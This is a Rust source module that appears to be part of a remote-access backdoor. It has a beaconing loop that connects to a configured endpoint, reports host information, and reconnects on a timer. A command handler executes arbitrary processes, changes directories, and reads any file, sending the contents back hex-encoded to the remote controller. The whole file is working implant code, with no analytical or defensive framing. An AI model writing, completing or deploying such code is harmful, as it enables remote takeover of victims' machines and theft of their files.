use std::time::Duration;

use serde_json::{json, Value};

use super::defaults;
use super::transport::Conn;
use crate::util::{host, proc};

pub(super) fn run() {
    loop {
        if let Ok(mut c) = Conn::open(&defaults::endpoint()) {
            let info = host::collect(defaults::TAG);
            if c.send(&json!({ "code": 0, "info": info })).is_ok() {
                serve(&mut c);
            }
        }
        std::thread::sleep(Duration::from_secs(defaults::RETRY_SECS));
    }
}

fn serve(c: &mut Conn) {
    while let Ok(Some(msg)) = c.recv() {
        let code = msg.get("code").and_then(Value::as_u64).unwrap_or(0);
        let args = msg.get("args").and_then(Value::as_str).unwrap_or("");
        let out = match code {
            1 => proc::run(args),
            2 => match std::env::set_current_dir(args) {
                Ok(_) => std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default(),
                Err(e) => e.to_string(),
            },
            3 => std::fs::read(args)
                .map(|b| b.iter().map(|x| format!("{x:02x}")).collect())
                .unwrap_or_else(|e| e.to_string()),
            9 => return,
            _ => continue,
        };
        if c.send(&json!({ "code": code, "out": out })).is_err() {
            return;
        }
    }
}
